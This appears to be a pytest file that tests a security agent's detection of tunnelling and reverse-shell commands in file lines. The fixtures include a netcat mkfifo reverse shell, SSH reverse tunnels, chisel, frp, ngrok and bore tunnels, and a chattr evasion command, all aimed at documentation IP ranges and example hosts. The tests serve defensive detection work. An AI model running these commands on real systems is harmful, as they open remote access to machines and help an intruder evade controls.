"""Text rules on the lines of a file (rules/filetext.py) and the shapes they split lines into."""

from __future__ import annotations

import threading
import time
from pathlib import Path

import pytest
from fakes import context

from sentinel.core.events import FileChange
from sentinel.detectors.filesig import FileSigDetector
from sentinel.rules import filetext, intel, loader, shapes
from sentinel.rules.catalogue import Catalogue

REVERSE = "ssh -fN -R 2222:localhost:22 u@198.51.100.7"


@pytest.fixture(scope="module")
def cat() -> Catalogue:
    return loader.load(intel.load())


def rules(cat: Catalogue, body: str) -> dict[str, filetext.LineHit]:
    return {h.rule: h for h in filetext.line_hits(cat, body.encode())}


def test_line_number_count_and_redacted_excerpt(cat: Catalogue) -> None:
    body = f"#!/bin/sh\nset -e\n{REVERSE} --password hunter22\n{REVERSE}\n"
    hit = rules(cat, body)["tunnel.ssh_reverse"]
    assert (hit.line, hit.lines) == (3, 2)
    assert "hunter22" not in hit.excerpt and hit.excerpt.startswith("ssh -fN -R")


def test_comments_are_skipped_and_continuations_joined(cat: Catalogue) -> None:
    assert rules(cat, f"# example: {REVERSE}\n; {REVERSE}\n") == {}
    hit = rules(cat, "x=1\nssh -fN \\\n  -R 2222:localhost:22 \\\n  u@198.51.100.7\n")
    assert hit["tunnel.ssh_reverse"].line == 2


def test_what_a_shell_runs_is_judged_however_it_is_written(cat: Catalogue) -> None:
    """`//tmp/x` runs /tmp/x; bash runs a script with NUL bytes in it; a command continued
    over many lines is one command."""
    assert "tunnel.ssh_reverse" in rules(cat, f"#!/bin/sh\n//{REVERSE}\n")
    nul = f"#!/bin/bash\n: '\0'\n{REVERSE}\n".encode()
    assert "tunnel.ssh_reverse" in {h.rule for h in filetext.line_hits(cat, nul)}
    long = (
        "ssh -fN \\\n"
        + "  -o ServerAliveInterval=30 \\\n" * 40
        + "  -R 2222:localhost:22 u@198.51.100.7\n"
    )
    assert rules(cat, long)["tunnel.ssh_reverse"].line == 1


def test_a_fifo_shell_over_two_lines_is_one(cat: Catalogue) -> None:
    shell = "nc 198.51.100.7 443 </tmp/f | /bin/sh -i >/tmp/f 2>&1"
    two = f"#!/bin/sh\nrm -f /tmp/f; mkfifo /tmp/f\n{shell}\n"
    assert rules(cat, two)["tunnel.reverse_shell"].line <= 2  # the window it starts
    apart = "#!/bin/sh\nmkfifo /tmp/q\n" + "echo ok\n" * 5 + "nc -z h 80 && sh -c 'ls | wc'\n"
    assert "tunnel.reverse_shell" not in rules(cat, apart)  # lines apart: not one command


def test_a_crafted_text_costs_linear_time(cat: Catalogue) -> None:
    """256 KiB of `nc nc nc ...` (every gap of the reverse-shell patterns is bounded): once
    quadratic (minutes of a stalled agent), now done well within the bound."""
    done = threading.Event()
    crafted = b"#!/bin/sh\n-c\n" + b"nc " * (filetext.MAX_BYTES // 3)
    worker = threading.Thread(target=lambda: (filetext.line_hits(cat, crafted), done.set()))
    worker.start()
    worker.join(30)
    assert done.is_set(), "line rules took over 30 s on 256 KiB"


def test_caps_bound_what_is_judged(cat: Catalogue) -> None:
    pad = "echo ok\n" * filetext.MAX_LINES
    assert rules(cat, pad + REVERSE + "\n") == {}  # past the line cap
    assert "tunnel.ssh_reverse" in rules(cat, pad[: 8 * 100] + REVERSE + "\n")
    assert filetext.line_hits(cat, b"\0ELF" + REVERSE.encode()) == []  # not text


def test_a_line_holds_what_the_whole_text_would_miss(cat: Catalogue) -> None:
    """The whole-text pass first must not hide a line: a bastion login before a
    ProxyCommand, and a chisel line after an frp line, are each reported."""
    body = (
        "ssh -J bastion.example u@gpu7.example\n"
        "ssh -o 'ProxyCommand=nc -X 5 -x 198.51.100.9:1080 %h %p' u@gpu7.example\n"
        "./w tcp --server_addr 198.51.100.7:7000 --remote_port 6000\n"
        "./x client 198.51.100.7:443 R:socks\n"
    )
    assert {"tunnel.ssh_proxy_command", "tunnel.frp", "tunnel.chisel"} <= set(rules(cat, body))


def test_argv_only_rules_stay_off_file_lines(cat: Catalogue) -> None:
    line = "chattr +i /etc/resolv.conf"
    assert rules(cat, f"#!/bin/sh\n{line}\n") == {}
    from sentinel.rules.fields import text

    assert [m.rule.id for m in text.matches(cat, line)] == ["evasion.chattr_immutable"]


def test_findings_carry_the_file_and_line(cat: Catalogue, tmp_path: Path) -> None:
    path = tmp_path / "up.sh"
    path.write_text(f"#!/bin/sh\n{REVERSE}\n")
    (f,) = filetext.file_findings(cat, str(path), 1 << 20)
    assert f.rule == "tunnel.ssh_reverse" and f.detector == "filetext"
    assert f.file is not None and f.file.path == str(path) and f.file.size == path.stat().st_size
    assert f.evidence["line"] == 2 and f"{path} line 2" in f.summary
    link = tmp_path / "link.sh"
    link.symlink_to(path)
    assert filetext.file_findings(cat, str(link), 1 << 20) == []  # links are not followed


def test_the_agent_judges_dropped_file_lines(tmp_path: Path) -> None:
    det = FileSigDetector(context(f"[agent]\nstate_dir = '{tmp_path / 'state'}'\n"))
    path = tmp_path / "keep.sh"
    path.write_text(f"#!/bin/sh\nwhile :; do {REVERSE}; sleep 9; done\n")
    found = list(det.handle(FileChange(time.time(), str(path), "created", "drop")))
    (f,) = [f for f in found if f.rule == "tunnel.ssh_reverse"]
    assert f.evidence["candidate"] == "config" and f.evidence["line"] == 2


@pytest.mark.parametrize(
    ("line", "argvs"),
    [
        (
            "ExecStart=-/usr/bin/autossh -M 0 -o 'RemoteForward 2222 localhost:22' h.example",
            [["/usr/bin/autossh", "-M", "0", "-o", "RemoteForward 2222 localhost:22", "h.example"]],
        ),
        (
            "cd /tmp && sudo -u bob env A=1 nohup ./x client h.example:80 R:socks >/dev/null 2>&1",
            [["cd", "/tmp"], ["./x", "client", "h.example:80", "R:socks"]],
        ),
        (
            "sh -c 'ngrok tcp 22 | tee log'",
            [["sh", "-c", "ngrok tcp 22 | tee log"], ["ngrok", "tcp", "22"], ["tee", "log"]],
        ),
        (
            "if true; then bore local 22 --to b.example; fi",
            [["true"], ["bore", "local", "22", "--to", "b.example"], ["fi"]],
        ),
        ("echo 'unclosed; ngrok http 8888", [["echo", "'unclosed"], ["ngrok", "http", "8888"]]),
    ],
)
def test_line_commands(line: str, argvs: list[list[str]]) -> None:
    assert shapes.line_commands(line) == argvs
